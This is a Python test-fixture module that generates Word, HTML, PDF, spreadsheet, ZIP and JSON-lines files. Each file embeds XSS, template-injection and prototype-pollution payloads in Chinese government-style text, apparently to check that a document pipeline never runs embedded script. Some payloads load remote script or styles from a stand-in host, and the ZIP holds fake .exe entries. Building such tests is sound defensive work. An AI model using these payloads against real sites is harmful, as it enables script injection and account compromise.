"""Scripts as documents may carry them, for every place that a browser runs them at; and such documents."""

from __future__ import annotations

import io
import json
import re
import zipfile

import docx
import openpyxl
from reportlab.pdfbase import pdfmetrics
from reportlab.pdfbase.cidfonts import UnicodeCIDFont
from reportlab.pdfgen.canvas import Canvas

SENTENCE = "坚决整治推诿扯皮、久拖不决"
AWAY = "http://elsewhere.invalid"

SCRIPTS = [
    "<script>ran=1;alert(1)</script>",
    f"<script src={AWAY}/a.js></script>",
    "<img src=x onerror=ran=1>",
    f"<img src={AWAY}/pixel>",
    "<svg onload=ran=1><script>ran=1</script><animate onbegin=ran=1></svg>",
    "<svg><style>@import '" + AWAY + "';</style></svg>",
    "</title><script>ran=1</script>",
    "</style><script>ran=1</script><style>",
    "</script><script>ran=1</script>",
    "</textarea><script>ran=1</script>",
    "</template></noscript></bdi></q></td></table><script>ran=1</script>",
    "<!--<script>ran=1//--><script>ran=1</script>",
    "--><script>ran=1</script><!--",
    "--!><img src=x onerror=ran=1>",
    "<![CDATA[<script>ran=1</script>]]>",
    '" autofocus onfocus=ran=1 x="',
    "' onmouseover='ran=1",
    "` onclick=ran=1 `",
    '"><img src=x onerror=ran=1>',
    "'><iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    '" style="background:url(' + AWAY + ")",
    "x{background:url(" + AWAY + ")}",
    "</svg>}*{background:url('" + AWAY + "')}",
    "javascript:ran=1",
    "<a href=javascript:ran=1>a</a>",
    "<a href='data:text/html,<script>opener.ran=1</script>'>a</a>",
    f"<base href={AWAY}><link rel=stylesheet href={AWAY}/a.css>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    f"<form action={AWAY}><button autofocus>a</button></form>",
    f"<object data={AWAY}></object><embed src={AWAY}><video src={AWAY} onerror=ran=1></video>",
    "<details open ontoggle=ran=1><summary>a</summary></details>",
    "<x contenteditable onblur=ran=1 tabindex=1 id=main>a</x>",
    "<div id=detail></div><input id=text name=body><form id=result name=scripts></form>",
    "{{ 7*7 }}{% raw %}{{ self.__init__.__globals__ }}{% endraw %}{# a #}",
    "${ran=1}#{ran=1}<%= ran=1 %>{0.__class__}%(a)s%s",
    "{{constructor.constructor('ran=1')()}}",
    '{"__proto__": {"ran": 1}, "</script>": "<!--"}',
    "\\u003cscript\\u003eran=1\\u003c/script\\u003e&lt;script&gt;ran=1&lt;/script&gt;",
    "&#60;img src=x onerror=ran=1&#62;",
    "＜script＞ran=1＜/script＞",
    "<scr\0ipt>ran=1</scr\0ipt>\0<img src=x onerror=ran=1>",
    "\u202e<script>ran=1</script>\u2066\u200b",
    f"![a]({AWAY}/a.png)[a](javascript:ran=1)<{AWAY}>",
    f"[a]: {AWAY} 'onerror=ran=1'\n\n---\n# a\n<img src=x onerror=ran=1>",
]
PLAIN = [text for text in SCRIPTS if not re.search("[\0\u200b\u202e\u2066]", text)]
"""Those that a codebook takes, and a file's name on any system but for its path."""


def text_of(at: int) -> str:
    """A document full of scripts; every unit is long enough to be judged."""
    lines = [
        f"市财政安排专项资金{script}支持企业，推行政府采购。" for script in (*SCRIPTS[at:], *SCRIPTS[:at])
    ]
    return f"一、{SCRIPTS[at]}建设担当有为的政府\n" + "\n".join([*lines, SCRIPTS[at], SENTENCE + "。"])


def plain(at: int) -> bytes:
    """The same without a NUL, which no plain text has."""
    return text_of(at).replace("\0", "").encode()


def word(at: int) -> bytes:
    made = docx.Document()
    properties, script = made.core_properties, PLAIN[at]
    properties.title = properties.author = properties.subject = properties.keywords = script[:250]
    made.add_heading(script, 1)
    for line in re.sub("[\0\ufffe]", "", text_of(at)).splitlines():
        made.add_paragraph(line)
    made.add_table(1, 1).cell(0, 0).text = script + SENTENCE
    buffer = io.BytesIO()
    made.save(buffer)
    return buffer.getvalue()


def web(at: int) -> bytes:
    script = PLAIN[at].replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")
    raw = SCRIPTS[at]
    return (
        f"<html><head><title>{script}</title><meta name='ArticleTitle' content=\"{script}\">"
        f'<meta name=author content="{script}"></head><body {raw}><h1>{script}</h1>'
        f"<div class='content'><p>{SENTENCE}{script}。</p>{raw}<p>{script}{SENTENCE}。</p>"
        f"<p onclick='ran=1'>{SENTENCE}，改善服务。</p></div></body></html>"
    ).encode()


def portable(at: int) -> bytes:
    pdfmetrics.registerFont(UnicodeCIDFont("STSong-Light"))
    buffer = io.BytesIO()
    canvas = Canvas(buffer)
    for put in (canvas.setTitle, canvas.setAuthor, canvas.setSubject, canvas.setKeywords):
        put(PLAIN[at])
    canvas.setFont("STSong-Light", 8)
    for line, text in enumerate(text_of(at).replace("\0", "").splitlines()[:40]):
        canvas.drawString(30, 800 - 18 * line, text[:90])
    canvas.save()
    return buffer.getvalue()


def workbook(at: int) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = "<script>ran=1"
    sheet.append(["编号", "标题", PLAIN[at], "正文"])
    for row, script in enumerate(PLAIN):
        sheet.append([f"{row}{script}", script, script, f"{SENTENCE}{script}。{script}{SENTENCE}。"])
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def archive(at: int) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as made:
        for number, script in enumerate(PLAIN[at::4]):
            made.writestr(f"{number}{script}.txt", plain(number))
            made.writestr(f"{script}/{number}.exe", b"MZ")
    return buffer.getvalue()


def lines(at: int) -> bytes:
    rows = [
        {
            "编号": f"{number}{script}",
            "标题": script,
            "地区": script,
            "文种": script,
            "发文机关": script,
            "文号": script,
            "日期": f"{2019 + number % 4}-05",
            SCRIPTS[at]: script,
            "正文": f"{SENTENCE}{script}。\n{script}{SENTENCE}。\n{text_of(number)}",
        }
        for number, script in enumerate(SCRIPTS)
    ]
    return "".join(json.dumps(row, ensure_ascii=False) + "\n" for row in rows).encode()
